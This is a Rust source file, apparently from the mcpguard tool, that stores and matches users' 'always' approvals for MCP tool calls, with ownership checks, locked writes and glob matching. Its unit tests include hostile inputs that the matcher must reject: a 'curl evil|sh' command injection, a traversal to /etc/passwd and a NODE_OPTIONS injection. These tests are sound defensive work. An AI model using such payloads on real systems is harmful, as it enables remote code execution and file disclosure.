//! Approvals answered "always": the user's own overlay on every profile.
//!
//! Owns: the file `approvals.toml` in mcpguard's config directory (a file mcpguard owns,
//! never a built-in or a team's profile, and not used when anyone else could have written
//! it), its entries, whether a call matches one, writing one (atomically, under a lock),
//! and revoking. An entry is for one server identity (its name and the exact command it
//! runs) and one tool, and it is closed: a call matches only when it has exactly the
//! arguments the entry names, each string matching its glob (a value with a `..` path
//! component never does) and every other value equal to the one approved. An entry only
//! turns a `prompt` into `allow`: it never overrides a `deny`.

use super::digest::canonical_text;
use serde::{Deserialize, Serialize};
use serde_json::Value;
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

/// Argument key → glob its string value must match (a person's widening of one call).
pub(crate) type ArgPatterns = BTreeMap<String, String>;

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub(crate) struct Entry {
    pub(crate) server: String,
    /// The server's identity: its name and a digest of the command it runs (another
    /// package under the same name gets nothing).
    pub(crate) identity: String,
    pub(crate) tool: String,
    /// String arguments: key → glob.
    #[serde(default)]
    pub(crate) arguments: ArgPatterns,
    /// Every other argument: key → its value exactly (JSON, keys sorted).
    #[serde(default)]
    pub(crate) exact: BTreeMap<String, String>,
    /// When it was written (RFC 3339).
    pub(crate) created: String,
    /// Who answered (`socket uid=1000 pid=… …`, `tty`).
    pub(crate) by: String,
}

#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub(crate) struct File {
    #[serde(default, rename = "approval")]
    pub(crate) entries: Vec<Entry>,
}

/// Why the approvals file cannot be used.
#[derive(Debug, thiserror::Error)]
pub(crate) enum AlwaysError {
    #[error("cannot read {path}: {source}")]
    Read {
        path: PathBuf,
        source: std::io::Error,
    },
    #[error(
        "{path} is not a valid approvals file: {message}; fix or remove the entry (mcpguard approvals revoke)"
    )]
    Parse { path: PathBuf, message: String },
    #[error("cannot write {path}: {source}")]
    Write {
        path: PathBuf,
        source: std::io::Error,
    },
    #[error("argument `{key}`: {message}")]
    Pattern { key: String, message: String },
    #[error("{0}")]
    NoConfigDir(&'static str),
}

const HEADER: &str = "# Approvals answered \"always\" (written by mcpguard approve; see them with\n\
# `mcpguard approvals list`, remove them with `mcpguard approvals revoke`). Each entry lets\n\
# a call of `tool` on the server `identity` names run without asking when its arguments are\n\
# exactly those named: strings matching their glob under `arguments`, other values equal to\n\
# those under `exact`. Entries never override a deny.\n";

/// Where the file is.
pub(crate) fn path() -> Result<PathBuf, AlwaysError> {
    crate::paths::config_dir()
        .map(|dir| dir.join("approvals.toml"))
        .ok_or(AlwaysError::NoConfigDir(
            "cannot tell where mcpguard keeps its settings: HOME is not set; set HOME or MCPGUARD_HOME",
        ))
}

/// Reads the file at `path`; a missing file has no entries.
pub(crate) fn load(path: &Path) -> Result<File, AlwaysError> {
    let text = match std::fs::read_to_string(path) {
        Ok(text) => text,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(File::default()),
        Err(source) => {
            return Err(AlwaysError::Read {
                path: path.to_owned(),
                source,
            });
        }
    };
    check_owner(path)?;
    toml::from_str(&text).map_err(|e| AlwaysError::Parse {
        path: path.to_owned(),
        message: e.to_string(),
    })
}

/// An approvals file anyone but this user could have written allows nothing.
fn check_owner(path: &Path) -> Result<(), AlwaysError> {
    use std::os::unix::fs::MetadataExt;
    let meta = std::fs::symlink_metadata(path).map_err(|source| AlwaysError::Read {
        path: path.to_owned(),
        source,
    })?;
    let uid = nix::unistd::geteuid().as_raw();
    let problem = if !meta.file_type().is_file() {
        Some("it is not a regular file".to_owned())
    } else if meta.uid() != uid {
        Some(format!(
            "it belongs to uid {}, not to you (uid {uid})",
            meta.uid()
        ))
    } else if meta.mode() & 0o022 != 0 {
        Some(format!(
            "others may write it (mode {:o})",
            meta.mode() & 0o777
        ))
    } else {
        None
    };
    match problem {
        Some(problem) => Err(AlwaysError::Parse {
            path: path.to_owned(),
            message: format!("{problem}, so its approvals are not used"),
        }),
        None => Ok(()),
    }
}

/// Changes the file at `path` under an exclusive lock (two writers never lose each
/// other's change, and a revoked entry cannot come back), writing it whole through a
/// temporary file and a rename (0600). `change` returns what to report.
pub(crate) fn update<T>(
    path: &Path,
    change: impl FnOnce(&mut File) -> Result<T, AlwaysError>,
) -> Result<T, AlwaysError> {
    let failed = |source| AlwaysError::Write {
        path: path.to_owned(),
        source,
    };
    let _lock = crate::private_file::lock(path, ".approvals.lock").map_err(failed)?;
    let mut file = load(path)?;
    let outcome = change(&mut file)?;
    let text = toml::to_string(&file).map_err(|e| failed(std::io::Error::other(e)))?;
    crate::private_file::replace(path, &[HEADER.as_bytes(), text.as_bytes()]).map_err(failed)?;
    Ok(outcome)
}

fn matcher(glob: &str) -> Result<globset::GlobMatcher, String> {
    globset::GlobBuilder::new(glob)
        .literal_separator(true)
        .backslash_escape(false)
        .build()
        .map(|g| g.compile_matcher())
        .map_err(|e| e.to_string())
}

fn has_parent_component(text: &str) -> bool {
    text.split(['/', '\\']).any(|part| part == "..")
}

/// The entry an "always" answer to `arguments` writes: each string exactly (glob
/// characters escaped) unless `widened` gives its glob; every other value exactly.
pub(crate) fn entry_for(
    server: &str,
    identity: &str,
    tool: &str,
    arguments: &Value,
    widened: &ArgPatterns,
    created: String,
    by: String,
) -> Result<Entry, AlwaysError> {
    let empty = serde_json::Map::new();
    let map = match arguments {
        Value::Object(map) => map,
        Value::Null => &empty,
        _ => {
            return Err(AlwaysError::Pattern {
                key: "(arguments)".into(),
                message: "the arguments are not an object".into(),
            });
        }
    };
    for key in widened.keys() {
        if !matches!(map.get(key), Some(Value::String(_))) {
            return Err(AlwaysError::Pattern {
                key: key.clone(),
                message: "a pattern is for a string argument of this call".into(),
            });
        }
    }
    let mut entry = Entry {
        server: server.to_owned(),
        identity: identity.to_owned(),
        tool: tool.to_owned(),
        arguments: ArgPatterns::new(),
        exact: BTreeMap::new(),
        created,
        by,
    };
    for (key, value) in map {
        match value {
            Value::String(text) => {
                let glob = widened
                    .get(key)
                    .cloned()
                    .unwrap_or_else(|| globset::escape(text));
                matcher(&glob).map_err(|message| AlwaysError::Pattern {
                    key: key.clone(),
                    message: format!("`{glob}` is not a valid glob: {message}"),
                })?;
                entry.arguments.insert(key.clone(), glob);
            }
            other => {
                entry.exact.insert(key.clone(), canonical_text(other));
            }
        }
    }
    Ok(entry)
}

impl Entry {
    /// Whether a call of `tool` on the server `identity` with `arguments` is one this
    /// entry allows.
    pub(crate) fn allows(&self, identity: &str, tool: &str, arguments: Option<&Value>) -> bool {
        if self.identity != identity || self.tool != tool {
            return false;
        }
        let empty = serde_json::Map::new();
        let map = match arguments {
            Some(Value::Object(map)) => map,
            None | Some(Value::Null) => &empty,
            Some(_) => return false,
        };
        if map.len() != self.arguments.len() + self.exact.len() {
            return false;
        }
        map.iter().all(
            |(key, value)| match (value, self.arguments.get(key), self.exact.get(key)) {
                (Value::String(text), Some(glob), None) => {
                    !has_parent_component(text) && matcher(glob).is_ok_and(|m| m.is_match(text))
                }
                (value, None, Some(exact)) if !value.is_string() => canonical_text(value) == *exact,
                _ => false,
            },
        )
    }

    /// The arguments as `mcpguard approvals list` shows them.
    pub(crate) fn shown(&self) -> String {
        let mut parts: Vec<String> = self
            .arguments
            .iter()
            .map(|(key, glob)| format!("{key}={glob}"))
            .collect();
        parts.extend(
            self.exact
                .iter()
                .map(|(key, json)| format!("{key}=={json}")),
        );
        if parts.is_empty() {
            "no arguments".to_owned()
        } else {
            parts.join(" ")
        }
    }
}

/// Reads one `KEY=GLOB` as typed on the command line (the glob is everything after the
/// first `=`).
pub(crate) fn parse_pattern(text: &str) -> Result<(String, String), String> {
    let (key, glob) = text
        .split_once('=')
        .ok_or_else(|| format!("`{text}` is not KEY=GLOB"))?;
    if key.is_empty() {
        return Err(format!("`{text}` names no argument"));
    }
    matcher(glob).map_err(|e| format!("`{glob}` is not a valid glob: {e}"))?;
    Ok((key.to_owned(), glob.to_owned()))
}

/// Checks a typed glob.
pub(crate) fn check_glob(glob: &str) -> Result<(), String> {
    matcher(glob).map(|_| ())
}

#[cfg(test)]
mod tests {
    use super::*;
    use pretty_assertions::assert_eq;
    use serde_json::json;

    fn entry(arguments: &Value, widened: &[(&str, &str)]) -> Entry {
        let widened = widened
            .iter()
            .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
            .collect();
        entry_for(
            "fs",
            "fs-0123",
            "write_file",
            arguments,
            &widened,
            "t".into(),
            "tty".into(),
        )
        .unwrap()
    }

    #[test]
    fn an_entry_allows_matching_calls_only() {
        let approved = json!({"path": "/ws/notes/a.md", "content": "x"});
        let notes = entry(&approved, &[("path", "/ws/notes/**"), ("content", "*")]);
        let call = |path: &str| json!({"path": path, "content": "anything"});
        let allows = |e: &Entry, args: &Value| e.allows("fs-0123", "write_file", Some(args));
        assert!(allows(&notes, &call("/ws/notes/a/b.md")));
        assert!(!allows(&notes, &call("/ws/other.md")));
        assert!(!allows(&notes, &call("/ws/notes/../../etc/passwd")));
        assert!(!notes.allows("fs-0123", "edit_file", Some(&call("/ws/notes/a.md"))));
        assert!(
            !notes.allows("fs-9999", "write_file", Some(&call("/ws/notes/a.md"))),
            "another server identity"
        );
        // Closed: an argument the entry does not name, or one missing, is another call.
        assert!(!allows(
            &notes,
            &json!({"path": "/ws/notes/a.md", "content": "x", "env": {"NODE_OPTIONS": "--require x"}})
        ));
        assert!(!allows(&notes, &json!({"path": "/ws/notes/a.md"})));
        assert!(!allows(
            &notes,
            &json!({"PATH": "/ws/notes/a.md", "content": "x"})
        ));
        let star = entry(&json!({"path": "/ws/a"}), &[("path", "/ws/*")]);
        assert!(
            !allows(&star, &json!({"path": "/ws/a/b"})),
            "* stays in one directory"
        );
        let none = entry(&json!({}), &[]);
        assert!(none.allows("fs-0123", "write_file", None));
        assert!(
            !allows(&none, &json!({"path": "/x"})),
            "no arguments means none"
        );
    }

    #[test]
    fn exact_entries_match_only_the_call_they_came_from() {
        let arguments = json!({"cmd": "ls \\*", "glob": "/ws/[a]*.md", "n": 3, "confirm": false});
        let exact = entry(&arguments, &[]);
        let allows = |args: &Value| exact.allows("fs-0123", "write_file", Some(args));
        assert!(allows(&arguments));
        assert!(!allows(
            &json!({"cmd": "ls [$(curl evil|sh)]", "glob": "/ws/[a]*.md", "n": 3, "confirm": false})
        ));
        assert!(!allows(
            &json!({"cmd": "ls \\*", "glob": "/ws/a-x.md", "n": 3, "confirm": false})
        ));
        assert!(!allows(
            &json!({"cmd": "ls \\*", "glob": "/ws/[a]*.md", "n": 4, "confirm": false})
        ));
        // A value is compared as the value it is: the string "false" is not false.
        assert!(!allows(
            &json!({"cmd": "ls \\*", "glob": "/ws/[a]*.md", "n": 3, "confirm": "false"})
        ));
        assert_eq!(
            exact.shown(),
            "cmd=ls \\[*] glob=/ws/[[]a[]][*].md confirm==false n==3"
        );
    }

    #[test]
    fn patterns_are_checked() {
        assert_eq!(
            parse_pattern("path=/ws/**").unwrap(),
            ("path".into(), "/ws/**".into())
        );
        assert_eq!(
            parse_pattern("q=a, b=c").unwrap(),
            ("q".into(), "a, b=c".into())
        );
        assert!(parse_pattern("path").is_err());
        assert!(parse_pattern("=x").is_err());
        assert!(parse_pattern("path=[").is_err());
        let widened = ArgPatterns::from([("n".to_owned(), "*".to_owned())]);
        assert!(
            entry_for(
                "fs",
                "i",
                "t",
                &json!({"n": 3}),
                &widened,
                "t".into(),
                "b".into()
            )
            .is_err()
        );
        let missing = ArgPatterns::from([("other".to_owned(), "*".to_owned())]);
        assert!(
            entry_for(
                "fs",
                "i",
                "t",
                &json!({"n": 3}),
                &missing,
                "t".into(),
                "b".into()
            )
            .is_err()
        );
    }

    #[test]
    fn the_file_round_trips_under_its_lock_and_a_missing_one_is_empty() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("sub/approvals.toml");
        assert_eq!(load(&path).unwrap(), File::default());
        let one = entry(&json!({"path": "/ws/a"}), &[("path", "/ws/**")]);
        update(&path, |file| {
            file.entries.push(one.clone());
            Ok(())
        })
        .unwrap();
        assert_eq!(load(&path).unwrap(), File { entries: vec![one] });
        use std::os::unix::fs::PermissionsExt;
        assert_eq!(
            std::fs::metadata(&path).unwrap().permissions().mode() & 0o777,
            0o600
        );
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o666)).unwrap();
        let error = load(&path).unwrap_err().to_string();
        assert!(error.contains("others may write it"), "{error}");
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o600)).unwrap();
        std::fs::write(&path, "[[approval]]\nserver = 1\n").unwrap();
        let error = load(&path).unwrap_err().to_string();
        assert!(
            error.contains("approvals.toml") && error.contains("revoke"),
            "{error}"
        );
    }
}
